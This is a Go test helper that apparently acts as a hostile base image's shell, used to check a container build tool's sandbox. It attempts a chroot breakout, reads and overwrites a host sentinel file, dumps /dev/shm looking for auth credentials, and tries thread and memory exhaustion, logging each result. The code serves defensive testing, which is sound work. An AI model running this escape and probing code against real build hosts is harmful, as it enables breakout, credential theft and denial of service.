// Command sandbox-escape is the /bin/sh of a hostile base image
// (TestSandboxEscape): every RUN step of a build on that base runs it. It
// tries what a pushed base could do to the build host and prints what it
// got, one "probe: " line each, so the build log shows it.
//
// A RUN line passes it key=value words: listen= a loopback address to
// dial, sentinel= a host file to read and overwrite, threads= how many
// threads to start at once and alloc= how many bytes to fill (in a child
// each, to see the build's limits hold).
package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
)

// out gets every line besides stdout: /probe.log in the build's root,
// opened before the breakout, so the image keeps what the probe saw.
var out *os.File

func say(format string, args ...any) {
	line := fmt.Sprintf("probe: "+format+"\n", args...)
	os.Stdout.WriteString(line)
	if out != nil {
		out.WriteString(line)
	}
}

func main() {
	if len(os.Args) == 3 && strings.HasPrefix(os.Args[1], "child-") {
		child(os.Args[1], os.Args[2])
		return
	}
	opts := map[string]string{}
	for _, w := range strings.Fields(strings.Join(os.Args[1:], " ")) {
		if k, v, ok := strings.Cut(w, "="); ok {
			opts[k] = v
		}
	}
	out, _ = os.Create("/probe.log")
	say("uid %d gid %d", os.Getuid(), os.Getgid())
	if b, err := os.ReadFile("/proc/self/uid_map"); err == nil {
		say("uid_map %s", strings.Join(strings.Fields(string(b)), " "))
	}
	for _, ns := range []string{"mnt", "pid", "ipc", "uts", "net", "user"} {
		l, _ := os.Readlink("/proc/self/ns/" + ns)
		say("ns %s", l)
	}
	var names []string
	if ifs, err := net.Interfaces(); err == nil {
		for _, i := range ifs {
			names = append(names, i.Name)
		}
	}
	say("interfaces %s", strings.Join(names, ","))
	limits()
	dumpDir("/dev/shm", "inside")

	// The classic breakout: chroot into a subdirectory while keeping the
	// working directory outside it, walk up, and chroot there.
	escaped := false
	if err := os.MkdirAll("/.escape", 0o700); err != nil {
		say("mkdir: %v", err)
	}
	if err := syscall.Chroot("/.escape"); err != nil {
		say("chroot into /.escape: %v", err)
	} else {
		for range 256 {
			syscall.Chdir("..")
		}
		if err := syscall.Chroot("."); err != nil {
			say("chroot .: %v", err)
		} else {
			escaped = true
		}
	}
	say("escape chroot done: %v", escaped)
	if entries, err := os.ReadDir("/"); err == nil {
		var list []string
		for _, e := range entries {
			list = append(list, e.Name())
		}
		say("root now lists %s", strings.Join(list, ","))
	}
	if p := opts["sentinel"]; p != "" {
		if b, err := os.ReadFile(p); err != nil {
			say("sentinel read: %v", err)
		} else {
			say("sentinel read: %q", b)
		}
		if err := os.WriteFile(p, []byte("escaped\n"), 0o644); err != nil {
			say("sentinel write: %v", err)
		} else {
			say("sentinel write: ok")
		}
	}
	dumpDir("/dev/shm", "after escape")
	if a := opts["listen"]; a != "" {
		c, err := net.DialTimeout("tcp", a, 5*time.Second)
		if err != nil {
			say("connect %s: %v", a, err)
		} else {
			fmt.Fprintf(c, "escaped\n")
			c.Close()
			say("connect %s: ok", a)
		}
	}
	for _, what := range []string{"threads", "alloc"} {
		if n := opts[what]; n != "" {
			self, _ := os.Executable()
			if err := exec.Command(self, "child-"+what, n).Run(); err != nil {
				say("%s %s: %v", what, n, err)
			} else {
				say("%s %s: ok", what, n)
			}
		}
	}
	say("done")
}

// child starts n threads that all stay, or fills n bytes of memory, and
// exits 0 if it could.
func child(what, arg string) {
	n, err := strconv.Atoi(arg)
	if err != nil {
		os.Exit(3)
	}
	switch what {
	case "child-threads":
		var started sync.WaitGroup
		hold := make(chan struct{})
		for range n {
			started.Add(1)
			go func() {
				runtime.LockOSThread() // a thread of its own, kept while it waits
				started.Done()
				<-hold
			}()
		}
		started.Wait()
	case "child-alloc":
		b := make([]byte, n)
		for i := 0; i < n; i += 4096 {
			b[i] = 1
		}
	}
}

// limits prints the process limit and the memory cgroup's limit, as the
// build sees them.
func limits() {
	if b, err := os.ReadFile("/proc/self/limits"); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if strings.HasPrefix(l, "Max processes") {
				say("limit %s", strings.Join(strings.Fields(l), " "))
			}
		}
	}
	for _, p := range []string{"/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"} {
		if b, err := os.ReadFile(p); err == nil {
			say("memory limit %s", strings.TrimSpace(string(b)))
		}
	}
	for _, p := range []string{"/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"} {
		if b, err := os.ReadFile(p); err == nil {
			say("pids limit %s", strings.TrimSpace(string(b)))
		}
	}
}

// dumpDir prints every file in dir with its content: an auth file there
// would be a credential for kiln.
func dumpDir(dir, when string) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		say("%s %s: %v", when, dir, err)
		return
	}
	say("%s %s holds %d entries", when, dir, len(entries))
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			say("%s %s/%s: %v", when, dir, e.Name(), err)
			continue
		}
		say("%s %s/%s: %q", when, dir, e.Name(), b)
	}
}
